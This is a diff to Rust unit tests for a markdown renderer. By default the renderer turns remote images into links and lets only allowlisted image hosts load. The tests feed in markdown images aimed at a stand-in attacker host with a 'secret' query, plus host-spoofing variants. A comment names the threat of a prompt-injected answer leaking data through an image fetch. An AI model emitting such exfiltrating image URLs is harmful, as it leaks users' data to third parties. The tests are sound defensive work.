@@ -3,6 +3,17 @@
 
 use super::*;
 
+mod pathological;
+
+/// Renders with the default policy (no remote images).
+fn render(md: &str) -> String {
+    super::render(md, &ImageHosts::none())
+}
+
+fn render_streaming(md: &str) -> String {
+    super::render_streaming(md, &ImageHosts::none())
+}
+
 /// Every real tag in `html` (text `<` is always escaped), as (name, [(attribute, value)]).
 fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
     let mut out = Vec::new();
@@ -54,9 +65,17 @@ fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
 }
 
 /// The safety properties every rendering must have.
+/// With the default policy no remote image loads, so there is no `<img>` at all.
 fn assert_safe(md: &str) -> String {
     let html = render(md);
-    for (name, attrs) in tags(&html) {
+    assert_safe_html(md, &html);
+    assert!(!tags(&html).iter().any(|(name, _)| name == "img"), "an <img> for {md:?}:\n{html}");
+    html
+}
+
+/// [`assert_safe`] for HTML already rendered from `md`.
+pub(super) fn assert_safe_html(md: &str, html: &str) {
+    for (name, attrs) in tags(html) {
         assert!(
             !matches!(
                 name.as_str(),
@@ -89,7 +108,6 @@ fn assert_safe(md: &str) -> String {
             }
         }
     }
-    html
 }
 
 #[test]
@@ -206,13 +224,52 @@ fn links_and_images() {
          <a href=\"mailto:b@example.com\" rel=\"noopener noreferrer nofollow\">b@example.com</a></p>\n"
     );
     assert_eq!(render("[rel](../x)"), "<p>rel</p>\n");
-    assert_eq!(
-        render("![a cat](https://example.com/cat.png)"),
-        "<p><img src=\"https://example.com/cat.png\" alt=\"a cat\" loading=\"lazy\" referrerpolicy=\"no-referrer\"></p>\n"
-    );
     assert_eq!(render("![local](/etc/passwd)"), "<p>local</p>\n");
     // Spaces and quotes in URLs are percent-encoded.
     assert!(render("[x](<https://e.com/a b\">)").contains("href=\"https://e.com/a%20b%22\""));
+}
+
+#[test]
+fn remote_images_are_links_by_default() {
+    // A prompt-injected answer must not make the browser fetch a URL carrying data out.
+    assert_eq!(
+        render("![a cat](https://attacker.example/?q=secret \"T\")"),
+        "<p><a class=\"image-link\" href=\"https://attacker.example/?q=secret\" title=\"T\" target=\"_blank\" \
+         rel=\"noopener noreferrer nofollow\">a cat</a></p>\n"
+    );
+    // Without alt text the link shows the URL.
+    assert!(render("![](http://e.example/x.png)").contains(">http://e.example/x.png</a>"));
+    // Inside a link the label is enough: links do not nest.
+    let html = render("[![badge](https://img.example/b.svg)](https://example.com)");
+    assert_eq!(html.matches("<a ").count(), 1, "{html}");
+    assert!(html.contains(">badge</a>"), "{html}");
+    for md in
+        ["![x](https://a.example/p.png)", "![x][r]\n\n[r]: https://a.example/p.png", "![x](<https://a.example/ p>)"]
+    {
+        assert!(!assert_safe(md).contains("<img"), "{md}");
+    }
+}
+
+#[test]
+fn allowed_image_hosts_load() {
+    let hosts = ImageHosts::parse(&["img.example.com", "*.cdn.example.org"]).expect("valid hosts");
+    assert_eq!(
+        super::render("![a cat](https://img.example.com/cat.png)", &hosts),
+        "<p><img src=\"https://img.example.com/cat.png\" alt=\"a cat\" loading=\"lazy\" referrerpolicy=\"no-referrer\"></p>\n"
+    );
+    assert!(super::render("![x](https://a.cdn.example.org/x.png)", &hosts).contains("<img src="));
+    for other in [
+        "![x](https://attacker.example/?q=secret)",
+        "![x](https://img.example.com.attacker.example/x)",
+        "![x](https://img.example.com@attacker.example/x)",
+        "![x](http://img.example.com/x.png)",
+        "![x](https://cdn.example.org/x.png)",
+    ] {
+        let html = super::render(other, &hosts);
+        assert_safe_html(other, &html);
+        assert!(!html.contains("<img"), "{other}: {html}");
+        assert!(html.contains("class=\"image-link\""), "{other}: {html}");
+    }
 }
 
 #[test]
